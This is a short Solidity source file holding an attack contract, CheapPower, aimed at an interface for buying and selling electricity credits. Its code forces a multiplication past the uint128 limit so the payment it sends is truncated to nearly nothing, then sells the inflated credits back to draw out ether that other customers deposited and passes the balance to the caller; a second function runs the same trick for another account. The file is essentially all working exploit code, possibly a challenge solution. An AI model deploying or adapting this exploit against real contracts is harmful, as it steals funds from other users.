// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface ICredits {
    function buy(uint256 wattHours) external payable;

    function buyFor(address customer, uint256 wattHours) external payable;

    function sellBack(uint256 wattHours) external;

    function tariff() external view returns (uint128);
}

/// Buys so much that the price is cut off, and sells back what the other customers paid for.
contract CheapPower {
    function run(ICredits credits, uint256 times, uint256 wattHours) external payable {
        uint256 amount = (times * 2 ** 128) / credits.tariff() + 1;
        credits.buy{value: uint128(amount * credits.tariff())}(amount);
        credits.sellBack(wattHours);
        payable(msg.sender).transfer(address(this).balance);
    }

    /// For somebody else's account.
    function runFor(ICredits credits, address customer) external payable {
        uint256 amount = 2 ** 128 / credits.tariff() + 1;
        credits.buyFor{value: uint128(amount * credits.tariff())}(customer, amount);
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {}
}
